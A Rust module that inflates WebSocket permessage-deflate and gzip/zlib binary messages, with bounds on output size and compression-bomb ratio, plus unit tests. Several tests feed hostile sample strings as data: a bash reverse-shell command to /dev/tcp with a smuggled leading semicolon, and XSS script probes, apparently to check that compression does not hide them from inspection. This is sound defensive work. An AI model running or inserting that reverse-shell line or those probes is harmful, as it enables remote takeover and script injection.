//! permessage-deflate (RFC 7692) inflation with per-direction context, and the gzip or zlib
//! compression applications apply to binary messages themselves; output bounded in both.

use std::io::Read;

use flate2::read::{MultiGzDecoder, ZlibDecoder};
use flate2::{Decompress, FlushDecompress, Status};

/// Inflated size above which the compression ratio is checked.
pub const RATIO_FLOOR: usize = 1 << 20;
/// Largest accepted inflated/compressed ratio once past [`RATIO_FLOOR`]; deflate tops out near
/// 1032:1, so this only stops messages that are almost pure repetition (bombs).
pub const MAX_RATIO: usize = 100;
const CHUNK: usize = 16 * 1024;
/// RFC 7692 section 7.2.2: the sender strips this empty stored block; the receiver appends it.
const TAIL: [u8; 4] = [0x00, 0x00, 0xff, 0xff];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum InflateError {
    /// Output passed the size limit.
    TooBig,
    /// Output passed [`MAX_RATIO`].
    Bomb,
    /// Not a valid deflate stream.
    Corrupt,
    /// An earlier failure left the shared window unusable.
    Desynced,
}

/// One direction's decompressor.
pub struct Inflater {
    decompress: Decompress,
    no_context_takeover: bool,
    /// The previous message ended the deflate stream (BFINAL) or failed.
    needs_reset: bool,
    desynced: bool,
}

impl Inflater {
    /// `window_bits` is the negotiated `*_max_window_bits` (8..=15; 0 means 15). zlib cannot
    /// inflate with an 8-bit window, and a 9-bit one accepts every stream an 8-bit sender makes.
    pub fn new(window_bits: u8, no_context_takeover: bool) -> Inflater {
        let bits = match window_bits {
            0 => 15,
            b => b.clamp(9, 15),
        };
        Inflater {
            decompress: Decompress::new_with_window_bits(false, bits),
            no_context_takeover,
            needs_reset: false,
            desynced: false,
        }
    }

    /// Inflates one message into `out` (cleared first), producing at most `limit` bytes.
    pub fn inflate(
        &mut self,
        input: &[u8],
        limit: usize,
        out: &mut Vec<u8>,
    ) -> Result<(), InflateError> {
        out.clear();
        if self.desynced {
            return Err(InflateError::Desynced);
        }
        if self.needs_reset || self.no_context_takeover {
            self.decompress.reset(false);
            self.needs_reset = false;
        }
        let result = self.run(input, limit, out);
        match result {
            Ok(()) => {}
            // Without context takeover the next message starts from an empty window anyway.
            Err(_) if self.no_context_takeover => self.needs_reset = true,
            Err(_) => self.desynced = true,
        }
        result
    }

    fn run(&mut self, input: &[u8], limit: usize, out: &mut Vec<u8>) -> Result<(), InflateError> {
        for (from_message, chunk) in [(true, input), (false, &TAIL[..])] {
            let mut consumed = 0;
            loop {
                if out.len() == out.capacity() {
                    if out.len() > limit {
                        return Err(InflateError::TooBig);
                    }
                    out.reserve_exact(CHUNK.min(limit + 1 - out.len()).max(1));
                }
                let in_before = self.decompress.total_in();
                let out_before = out.len();
                let status = self
                    .decompress
                    .decompress_vec(&chunk[consumed..], out, FlushDecompress::Sync)
                    .map_err(|_| InflateError::Corrupt)?;
                consumed += (self.decompress.total_in() - in_before) as usize;
                check_output(out.len(), input.len(), limit)?;
                if status == Status::StreamEnd {
                    self.needs_reset = true;
                    // Bytes after the final block are no deflate data (RFC 1951 3.2.3): one
                    // receiver drops them, another inflates on; only the tail a sender forgot
                    // to strip is harmless.
                    let rest = &chunk[consumed..];
                    if from_message && !rest.is_empty() && rest != TAIL {
                        return Err(InflateError::Corrupt);
                    }
                    return Ok(());
                }
                let progressed = self.decompress.total_in() != in_before || out.len() != out_before;
                let output_room = out.len() < out.capacity();
                if consumed >= chunk.len() && output_room {
                    break;
                }
                if !progressed && output_room {
                    // Needs input we do not have: the message ended mid-block.
                    break;
                }
            }
        }
        Ok(())
    }
}

/// Most layers of compression unwrapped from one payload (gzip of gzip).
const MAX_LAYERS: usize = 3;

/// A binary message an application compressed itself (market data feeds send gzip or zlib):
/// what it inflates to, at most `limit` bytes, layer after layer. `Ok(None)` when it starts
/// like neither format or is corrupt from the start (then it is no compressed data, and is
/// read as it is). A stream cut short or corrupt later, or with a wrong checksum, gives what it
/// inflated up to there, as a streaming reader hands it out; gzip members that follow one
/// another are read as one text, as gunzip, Python and Node read them.
pub fn inflate_binary(input: &[u8], limit: usize) -> Result<Option<Vec<u8>>, InflateError> {
    let mut inflated: Option<Vec<u8>> = None;
    for _ in 0..MAX_LAYERS {
        match inflate_layer(inflated.as_deref().unwrap_or(input), limit)? {
            Some(out) => inflated = Some(out),
            None => break,
        }
    }
    Ok(inflated)
}

/// Whether `input` starts like gzip or zlib data.
pub fn starts_compressed(input: &[u8]) -> bool {
    compressed_body(input).is_some()
}

const GZIP_MAGIC: [u8; 3] = [0x1f, 0x8b, 0x08];

/// The gzip or zlib data `input` is: itself, or what follows engine.io v3's binary marker
/// (a 4, its message type).
fn compressed_body(input: &[u8]) -> Option<&[u8]> {
    let looks_compressed = |body: &[u8]| body.starts_with(&GZIP_MAGIC) || zlib_header(body);
    [input, input.strip_prefix(&[4]).unwrap_or(&[])]
        .into_iter()
        .find(|body| looks_compressed(body))
}

fn inflate_layer(input: &[u8], limit: usize) -> Result<Option<Vec<u8>>, InflateError> {
    let Some(body) = compressed_body(input) else {
        return Ok(None);
    };
    let mut reader: Box<dyn Read + '_> = if body.starts_with(&GZIP_MAGIC) {
        Box::new(MultiGzDecoder::new(body))
    } else {
        Box::new(ZlibDecoder::new(body))
    };
    let mut out = Vec::new();
    let mut chunk = [0u8; CHUNK];
    while let Ok(read @ 1..) = reader.read(&mut chunk) {
        out.extend_from_slice(&chunk[..read]);
        check_output(out.len(), body.len(), limit)?;
    }
    Ok((!out.is_empty()).then_some(out))
}

/// `output` bytes inflated so far from `input` bytes: within `limit`, and not a bomb.
fn check_output(output: usize, input: usize, limit: usize) -> Result<(), InflateError> {
    if output > limit {
        return Err(InflateError::TooBig);
    }
    if output > RATIO_FLOOR && output / MAX_RATIO > input {
        return Err(InflateError::Bomb);
    }
    Ok(())
}

/// RFC 1950's header: deflate with a window of at most 32 KiB, no preset dictionary, and the
/// check bits that make the two bytes a multiple of 31.
fn zlib_header(input: &[u8]) -> bool {
    let [cmf, flg, ..] = *input else {
        return false;
    };
    cmf & 0x0f == 8
        && cmf >> 4 <= 7
        && flg & 0x20 == 0
        && (u16::from(cmf) << 8 | u16::from(flg)) % 31 == 0
}

#[cfg(test)]
mod tests {
    use super::*;
    use flate2::{Compress, Compression, FlushCompress};

    #[test]
    fn gzip_and_zlib_binary_messages_are_inflated_within_the_limit() {
        use flate2::write::{GzEncoder, ZlibEncoder};
        use std::io::Write;
        let text = b"<script>alert(1)</script>".repeat(4);
        let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
        gzip.write_all(&text).unwrap();
        let gzip = gzip.finish().unwrap();
        let mut zlib = ZlibEncoder::new(Vec::new(), Compression::default());
        zlib.write_all(&text).unwrap();
        let zlib = zlib.finish().unwrap();
        for compressed in [&gzip, &zlib] {
            assert_eq!(inflate_binary(compressed, 1 << 20), Ok(Some(text.clone())));
            // Cut short: what came before the cut.
            let cut = inflate_binary(&compressed[..compressed.len() - 6], 1 << 20);
            assert!(
                matches!(cut, Ok(Some(ref part)) if text.starts_with(part)),
                "{cut:?}"
            );
            assert_eq!(inflate_binary(compressed, 50), Err(InflateError::TooBig));
        }
        assert_eq!(inflate_binary(b"\x81\xa1m\x01", 1 << 20), Ok(None));
        assert_eq!(inflate_binary(b"\x78\x9c garbage", 1 << 20), Ok(None));
        let mut bomb = ZlibEncoder::new(Vec::new(), Compression::best());
        bomb.write_all(&vec![0u8; 8 << 20]).unwrap();
        let bomb = bomb.finish().unwrap();
        assert_eq!(inflate_binary(&bomb, 64 << 20), Err(InflateError::Bomb));
    }

    /// A permessage-deflate sender: sync flush, tail stripped.
    struct Sender(Compress);

    impl Sender {
        fn new(bits: u8) -> Sender {
            Sender(Compress::new_with_window_bits(
                Compression::default(),
                false,
                bits,
            ))
        }

        fn send(&mut self, data: &[u8]) -> Vec<u8> {
            let mut out = Vec::with_capacity(data.len() + 64);
            let start = self.0.total_in();
            loop {
                let fed = (self.0.total_in() - start) as usize;
                self.0
                    .compress_vec(&data[fed..], &mut out, FlushCompress::Sync)
                    .unwrap();
                let all_fed = (self.0.total_in() - start) as usize == data.len();
                if all_fed && out.len() < out.capacity() {
                    break;
                }
                out.reserve(out.capacity().max(1024));
            }
            assert!(out.ends_with(&TAIL));
            out.truncate(out.len() - 4);
            out
        }
    }

    #[test]
    fn context_takeover_reuses_the_window() {
        let mut sender = Sender::new(15);
        let mut inflater = Inflater::new(15, false);
        let mut out = Vec::new();
        let message = b"the same message twice, the same message twice";
        let first = sender.send(message);
        inflater.inflate(&first, 1 << 20, &mut out).unwrap();
        assert_eq!(out, message);
        let second = sender.send(message);
        assert!(
            second.len() < first.len(),
            "second message refers back to the first"
        );
        inflater.inflate(&second, 1 << 20, &mut out).unwrap();
        assert_eq!(out, message);
        // A receiver without the shared window cannot decode the second message.
        let mut fresh = Inflater::new(15, true);
        assert!(fresh.inflate(&second, 1 << 20, &mut out).is_err() || out != message);
    }

    #[test]
    fn no_context_takeover_resets_between_messages() {
        let mut inflater = Inflater::new(15, true);
        let mut out = Vec::new();
        for text in [&b"hello hello hello"[..], b"another one"] {
            let mut sender = Sender::new(15);
            let wire = sender.send(text);
            inflater.inflate(&wire, 1024, &mut out).unwrap();
            assert_eq!(out, text);
        }
    }

    #[test]
    fn negotiated_small_windows_work_across_messages() {
        for bits in [8, 9, 12] {
            // zlib itself raises an 8-bit deflate window to 9 bits.
            let mut sender = Sender::new(bits.max(9));
            let mut inflater = Inflater::new(bits, false);
            let mut out = Vec::new();
            for round in 0..5 {
                let message = format!("round {round}: the quick brown fox jumps over the lazy dog")
                    .repeat(20);
                let wire = sender.send(message.as_bytes());
                inflater.inflate(&wire, 1 << 20, &mut out).unwrap();
                assert_eq!(out, message.as_bytes(), "bits {bits} round {round}");
            }
        }
    }

    #[test]
    fn size_cap_and_bomb() {
        let zeros = vec![0u8; 4 << 20];
        let wire = Sender::new(15).send(&zeros);
        let mut out = Vec::new();
        assert_eq!(
            Inflater::new(15, true).inflate(&wire, 64 * 1024, &mut out),
            Err(InflateError::TooBig)
        );
        assert!(out.len() <= 64 * 1024 + CHUNK);
        assert_eq!(
            Inflater::new(15, true).inflate(&wire, 16 << 20, &mut out),
            Err(InflateError::Bomb)
        );
    }

    /// A message ended by a final block, as senders without a sync flush make it.
    fn final_block(data: &[u8]) -> Vec<u8> {
        let mut compress = Compress::new(Compression::default(), false);
        let mut out = Vec::with_capacity(data.len() + 64);
        compress
            .compress_vec(data, &mut out, FlushCompress::Finish)
            .unwrap();
        out
    }

    #[test]
    fn a_final_block_ends_the_message_and_nothing_may_follow_it() {
        let mut out = Vec::new();
        let mut inflater = Inflater::new(15, false);
        inflater
            .inflate(&final_block(b"benign"), 1024, &mut out)
            .unwrap();
        assert_eq!(out, b"benign");
        // The next message starts a new stream.
        let mut with_tail = final_block(b"second");
        with_tail.extend_from_slice(&TAIL);
        inflater.inflate(&with_tail, 1024, &mut out).unwrap();
        assert_eq!(out, b"second");
        for trailer in [&final_block(b"<script>alert(1)</script>")[..], b"GARBAGE"] {
            let mut wire = final_block(b"benign");
            wire.extend_from_slice(trailer);
            assert_eq!(
                Inflater::new(15, false).inflate(&wire, 1024, &mut out),
                Err(InflateError::Corrupt)
            );
        }
    }

    fn gzip(data: &[u8]) -> Vec<u8> {
        use std::io::Write;
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(data).unwrap();
        encoder.finish().unwrap()
    }

    #[test]
    fn layers_a_bad_checksum_and_the_engine_io_marker_do_not_hide_the_text() {
        let text = b"; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1".to_vec();
        let twice = gzip(&gzip(&text));
        assert_eq!(inflate_binary(&twice, 1 << 20), Ok(Some(text.clone())));
        let mut bad_crc = gzip(&text);
        let crc_at = bad_crc.len() - 8;
        bad_crc[crc_at] ^= 0xff;
        assert_eq!(inflate_binary(&bad_crc, 1 << 20), Ok(Some(text.clone())));
        let marked = [&[4][..], &gzip(&text)].concat();
        assert!(starts_compressed(&marked));
        assert_eq!(inflate_binary(&marked, 1 << 20), Ok(Some(text)));
    }

    #[test]
    fn gzip_members_that_follow_one_another_are_one_text() {
        let mut two = gzip(b"benign ");
        two.extend_from_slice(&gzip(b"<script>alert(1)</script>"));
        assert_eq!(
            inflate_binary(&two, 1 << 20),
            Ok(Some(b"benign <script>alert(1)</script>".to_vec()))
        );
    }

    #[test]
    fn garbage_is_corrupt() {
        let mut out = Vec::new();
        assert_eq!(
            Inflater::new(15, true).inflate(&[0xff; 16], 1024, &mut out),
            Err(InflateError::Corrupt)
        );
    }
}
